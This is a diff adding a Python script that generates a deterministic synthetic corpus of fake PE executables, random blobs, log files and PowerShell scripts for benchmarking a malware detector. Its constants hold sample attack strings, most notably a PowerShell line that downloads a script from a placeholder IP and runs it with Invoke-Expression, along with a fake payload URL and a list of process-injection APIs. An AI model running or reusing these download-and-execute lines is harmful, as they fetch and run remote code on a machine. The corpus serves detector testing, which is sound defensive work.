@@ -0,0 +1,301 @@
+#!/usr/bin/env python3
+"""
+确定性合成Benchmark语料
+在本地生成PE (仿照 unit_tests/input/pe_allmatch 的test.exe: 同样的导入函数、字符串和图标资源)、
+高熵Data块和文本File；同一seed总是生成逐字节相同的语料，两次提交的Benchmark结果可以直接对比
+"""
+
+import argparse
+import hashlib
+import json
+import struct
+from pathlib import Path
+from typing import Any, Dict, List, Tuple
+
+import numpy as np
+
+REPO_ROOT = Path(__file__).resolve().parents[2]
+
+# pe_allmatch 测试程序源码 (图标/PNG资源直接嵌入生成的PE)
+PE_ALLMATCH_SOURCES = REPO_ROOT / 'unit_tests' / 'input' / 'pe_allmatch' / 'test-exe-src'
+
+# test.c / extract.h 调用的API (不同INDEX的变体导入不同的函数)
+PE_IMPORT_VARIANTS: List[Dict[str, List[str]]] = [
+    {'KERNEL32.dll': ['CreateProcessA', 'WaitForSingleObject', 'CloseHandle',
+                      'CreateToolhelp32Snapshot', 'GetCurrentProcessId', 'Module32First', 'Module32Next'],
+     'msvcrt.dll': ['printf', 'fopen', 'fwrite', 'fclose']},
+    {'KERNEL32.dll': ['CreateProcessA', 'WaitForSingleObject', 'CloseHandle'],
+     'ADVAPI32.dll': ['RegEnumKeyA'],
+     'msvcrt.dll': ['printf', 'fopen', 'fwrite', 'fclose']},
+    {'KERNEL32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread', 'GetProcAddress',
+                      'LoadLibraryA', 'CloseHandle'],
+     'WININET.dll': ['InternetOpenA', 'InternetOpenUrlA', 'InternetReadFile'],
+     'ADVAPI32.dll': ['RegSetValueExA', 'RegOpenKeyExA']},
+]
+
+PE_STRINGS = [
+    b'CLAMAV_TEST_PRINTF_STRING_%08x\n', b'Enumerating Modules via CreateToolhelp32Snapshot\n',
+    b'Enumerating Keys in HKEY_CURRENT_USER\n', b'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+    b'http://update.example.com/payload.bin', b'cmd.exe /c ', b'%s\\extracted_%d.exe',
+]
+
+TEXT_LINES = [
+    '2025-06-25 09:30:59 sshd[1123]: Failed password for root from 203.0.113.{n} port 22 ssh2',
+    '2025-06-25 09:31:02 kernel: [UFW BLOCK] IN=eth0 SRC=198.51.100.{n} DST=10.0.0.5 PROTO=TCP DPT=445',
+    'GET /index.php?id={n} HTTP/1.1 200 "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
+    'INFO worker-{n} processed batch in 12ms',
+]
+
+SCRIPT_LINES = [
+    '$c = New-Object Net.WebClient; $c.DownloadString("http://198.51.100.{n}/a.ps1") | Invoke-Expression',
+    '$b = [Convert]::FromBase64String("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA={n}")',
+    'Start-Sleep -Seconds {n}',
+]
+
+# 每种File的默认大小范围 (字节)
+SIZE_RANGES = {
+    'pe': (16 * 1024, 2 * 1024 * 1024),
+    'blob': (64 * 1024, 8 * 1024 * 1024),
+    'text': (1024, 256 * 1024),
+}
+
+FILE_ALIGNMENT = 0x200
+SECTION_ALIGNMENT = 0x1000
+IMAGE_BASE = 0x400000
+
+
+def align(value: int, alignment: int) -> int:
+    return (value + alignment - 1) // alignment * alignment
+
+
+def log_uniform_size(rng: np.random.Generator, low: int, high: int) -> int:
+    return int(np.exp(rng.uniform(np.log(low), np.log(high))))
+
+
+def code_bytes(rng: np.random.Generator, size: int) -> bytes:
+    """类似x86代码的低熵字节 (常见操作码出现得更频繁)"""
+    opcodes = np.array([0x8b, 0x89, 0x48, 0xe8, 0xff, 0x83, 0x55, 0x5d, 0xc3, 0x00, 0x0f, 0x85, 0x74, 0x75,
+                        0x8d, 0x4c, 0x24, 0x50, 0x51, 0x52, 0x53, 0x56, 0x57, 0x31, 0xc0], dtype=np.uint8)
+    weights = np.linspace(3.0, 0.5, len(opcodes))
+    common = rng.choice(opcodes, size=size, p=weights / weights.sum())
+    noise = rng.integers(0, 256, size, dtype=np.uint8)
+    return np.where(rng.random(size) < 0.2, noise, common).astype(np.uint8).tobytes()
+
+
+def build_import_section(rva: int, imports: Dict[str, List[str]]) -> bytes:
+    """构造 .idata: 导入描述符、ILT/IAT、Hint/Name表和DLL名称"""
+    descriptors_size = (len(imports) + 1) * 20
+    thunk_sizes = [(len(functions) + 1) * 4 for functions in imports.values()]
+    offset = descriptors_size + 2 * sum(thunk_sizes)
+
+    names = bytearray()
+    hint_names: List[List[int]] = []
+    dll_names: List[int] = []
+    for dll, functions in imports.items():
+        entries = []
+        for hint, function in enumerate(functions):
+            entries.append(rva + offset + len(names))
+            names += struct.pack('<H', hint) + function.encode() + b'\x00'
+            if len(names) % 2:
+                names += b'\x00'
+        hint_names.append(entries)
+        dll_names.append(rva + offset + len(names))
+        names += dll.encode() + b'\x00'
+
+    descriptors = bytearray()
+    thunks = bytearray()
+    ilt_offset = descriptors_size
+    iat_offset = descriptors_size + sum(thunk_sizes)
+    for entries, dll_name, thunk_size in zip(hint_names, dll_names, thunk_sizes):
+        table = b''.join(struct.pack('<I', entry) for entry in entries) + b'\x00' * 4
+        descriptors += struct.pack('<IIIII', rva + ilt_offset, 0, 0, dll_name, rva + iat_offset)
+        thunks += table
+        ilt_offset += thunk_size
+        iat_offset += thunk_size
+    descriptors += b'\x00' * 20
+    # ILT和IAT内容相同 (未绑定)
+    return bytes(descriptors) + bytes(thunks) + bytes(thunks) + bytes(names)
+
+
+def build_pe(sections: List[Tuple[bytes, bytes, int]], imports: Dict[str, List[str]], timestamp: int) -> bytes:
+    """构造最小的PE32可执行File
+
+    sections: (名称, 内容, 特征标志) 列表；导入表作为最后一个 .idata 节追加。
+    """
+    sections = list(sections)
+    header_size = align(0x80 + 4 + 20 + 224 + 40 * (len(sections) + 1), FILE_ALIGNMENT)
+
+    layout = []
+    rva = SECTION_ALIGNMENT
+    raw = header_size
+    for name, data, characteristics in sections:
+        layout.append([name, data, characteristics, rva, raw])
+        rva += align(max(len(data), 1), SECTION_ALIGNMENT)
+        raw += align(len(data), FILE_ALIGNMENT)
+    import_rva = rva
+    import_data = build_import_section(import_rva, imports)
+    layout.append([b'.idata', import_data, 0xC0000040, import_rva, raw])
+    size_of_image = import_rva + align(len(import_data), SECTION_ALIGNMENT)
+
+    code_sections = [entry for entry in layout if entry[2] & 0x20]
+    entry_point = code_sections[0][3] if code_sections else SECTION_ALIGNMENT
+    size_of_code = sum(align(len(entry[1]), FILE_ALIGNMENT) for entry in code_sections)
+    size_of_data = sum(align(len(entry[1]), FILE_ALIGNMENT) for entry in layout if not entry[2] & 0x20)
+
+    dos_header = b'MZ' + b'\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff' + b'\x00' * 46 + struct.pack('<I', 0x80)
+    dos_stub = b'This program cannot be run in DOS mode.\r\r\n$'
+    dos = (dos_header + dos_stub).ljust(0x80, b'\x00')
+
+    coff = struct.pack('<HHIIIHH', 0x14c, len(layout), timestamp, 0, 0, 224, 0x0102)
+    directories = [(0, 0)] * 16
+    directories[1] = (import_rva, len(import_data))
+    optional = struct.pack(
+        '<HBB' + 'I' * 9 + 'H' * 6 + 'I' * 4 + 'HH' + 'I' * 6,
+        0x10b, 14, 0, size_of_code, size_of_data, 0, entry_point, SECTION_ALIGNMENT, SECTION_ALIGNMENT,
+        IMAGE_BASE, SECTION_ALIGNMENT, FILE_ALIGNMENT, 6, 0, 0, 0, 6, 0,
+        0, size_of_image, header_size, 0, 3, 0x8140, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16
+    ) + b''.join(struct.pack('<II', address, size) for address, size in directories)
+
+    section_headers = b''.join(
+        struct.pack('<8sIIIIIIHHI', name, len(data), rva, align(len(data), FILE_ALIGNMENT), raw, 0, 0, 0, 0,
+                    characteristics)
+        for name, data, characteristics, rva, raw in layout
+    )
+    headers = (dos + b'PE\x00\x00' + coff + optional + section_headers).ljust(header_size, b'\x00')
+    return headers + b''.join(data.ljust(align(len(data), FILE_ALIGNMENT), b'\x00') for _, data, _, _, _ in layout)
+
+
+def load_resources() -> List[bytes]:
+    """pe_allmatch 的图标和PNG (源码树中没有时用确定性的伪资源代替)"""
+    resources = []
+    for name in ('test.ico', 'test.png'):
+        path = PE_ALLMATCH_SOURCES / name
+        if path.exists():
+            resources.append(path.read_bytes())
+    if not resources:
+        resources.append(np.random.default_rng(0).integers(0, 64, 64 * 1024, dtype=np.uint8).tobytes())
+    return resources
+
+
+def make_pe(rng: np.random.Generator, size: int, resources: List[bytes], packed: bool) -> bytes:
+    """生成一个PE: 代码节、字符串节和资源节，packed时代码节是随机 (加密) Data"""
+    imports = PE_IMPORT_VARIANTS[int(rng.integers(len(PE_IMPORT_VARIANTS)))]
+    strings = b'\x00'.join(PE_STRINGS[int(i)] for i in rng.permutation(len(PE_STRINGS)))
+    strings += b'\x00CLAMAV_TEST_PRINTF_STRING_' + rng.bytes(4).hex().encode()
+
+    resource = resources[int(rng.integers(len(resources)))]
+    resource = resource[:max(1024, min(len(resource), size // 4))]
+    code_size = max(4096, size - len(strings) - len(resource) - 4096)
+
+    if packed:
+        sections = [
+            (b'UPX0', b'', 0xE0000080),
+            (b'UPX1', rng.bytes(code_size), 0xE0000040 | 0x20),
+            (b'.rsrc', resource, 0xC0000040),
+        ]
+    else:
+        sections = [
+            (b'.text', code_bytes(rng, code_size), 0x60000020),
+            (b'.rdata', strings, 0x40000040),
+            (b'.rsrc', resource, 0x40000040),
+        ]
+    return build_pe(sections, imports, timestamp=int(rng.integers(1_500_000_000, 1_700_000_000)))
+
+
+def make_blob(rng: np.random.Generator, size: int) -> bytes:
+    """高熵Data块 (一半带7z头，模拟压缩包；一半没有可识别的File头)"""
+    data = rng.bytes(size)
+    return b'7z\xbc\xaf\x27\x1c' + data[6:] if rng.random() < 0.5 else data
+
+
+def make_text(rng: np.random.Generator, size: int, script: bool) -> bytes:
+    """日志文本或PowerShell脚本"""
+    templates = SCRIPT_LINES if script else TEXT_LINES
+    lines = []
+    total = 0
+    while total < size:
+        line = templates[int(rng.integers(len(templates)))].format(n=int(rng.integers(1, 255)))
+        lines.append(line)
+        total += len(line) + 1
+    return ('\n'.join(lines) + '\n').encode()[:size]
+
+
+def generate_corpus(root: str, seed: int = 42, pe_count: int = 200, blob_count: int = 20, text_count: int = 100,
+                    size_scale: float = 1.0) -> Dict[str, Any]:
+    """在root下生成语料并写入 corpus.json (返回其内容)
+
+    Tag: packed PE和脚本为1，其余为0 (用于在语料上Training基准Model)。
+    """
+    root = Path(root)
+    rng = np.random.default_rng(seed)
+    resources = load_resources()
+    files = []
+
+    def write(relative: str, content: bytes, kind: str, label: int):
+        path = root / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content)
+        files.append({'path': relative, 'kind': kind, 'label': label, 'size': len(content),
+                      'sha256': hashlib.sha256(content).hexdigest()})
+
+    def size_of(kind: str) -> int:
+        low, high = SIZE_RANGES[kind]
+        return max(512, int(log_uniform_size(rng, low, high) * size_scale))
+
+    for index in range(pe_count):
+        packed = rng.random() < 0.3
+        write(f"pe/{index // 100:03d}/sample_{index:05d}.exe",
+              make_pe(rng, size_of('pe'), resources, packed), 'pe', int(packed))
+    for index in range(blob_count):
+        write(f"blobs/blob_{index:05d}.bin", make_blob(rng, size_of('blob')), 'blob', 0)
+    for index in range(text_count):
+        script = rng.random() < 0.25
+        suffix = 'ps1' if script else 'log'
+        write(f"text/{index // 100:03d}/text_{index:05d}.{suffix}",
+              make_text(rng, size_of('text'), script), 'script' if script else 'text', int(script))
+
+    fingerprint = hashlib.sha256()
+    for entry in files:
+        fingerprint.update(f"{entry['path']}:{entry['sha256']};".encode())
+
+    by_kind: Dict[str, Dict[str, int]] = {}
+    for entry in files:
+        stats = by_kind.setdefault(entry['kind'], {'files': 0, 'bytes': 0})
+        stats['files'] += 1
+        stats['bytes'] += entry['size']
+
+    corpus = {
+        'seed': seed,
+        'size_scale': size_scale,
+        'fingerprint': fingerprint.hexdigest(),
+        'files': len(files),
+        'bytes': sum(entry['size'] for entry in files),
+        'by_kind': by_kind,
+        'entries': files,
+    }
+    with open(root / 'corpus.json', 'w') as f:
+        json.dump(corpus, f, indent=2)
+    return corpus
+
+
+def load_corpus(root: str) -> Dict[str, Any]:
+    with open(Path(root) / 'corpus.json') as f:
+        return json.load(f)
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Generate a deterministic synthetic corpus for detector benchmarks")
+    parser.add_argument('root')
+    parser.add_argument('--seed', type=int, default=42)
+    parser.add_argument('--pe', type=int, default=200)
+    parser.add_argument('--blobs', type=int, default=20)
+    parser.add_argument('--text', type=int, default=100)
+    parser.add_argument('--size-scale', type=float, default=1.0, help="Multiply all file sizes")
+    args = parser.parse_args()
+
+    corpus = generate_corpus(args.root, args.seed, args.pe, args.blobs, args.text, args.size_scale)
+    print(f"{corpus['files']} files, {corpus['bytes'] / 1024 / 1024:.1f} MiB, fingerprint {corpus['fingerprint'][:16]}")
+
+
+if __name__ == '__main__':
+    main()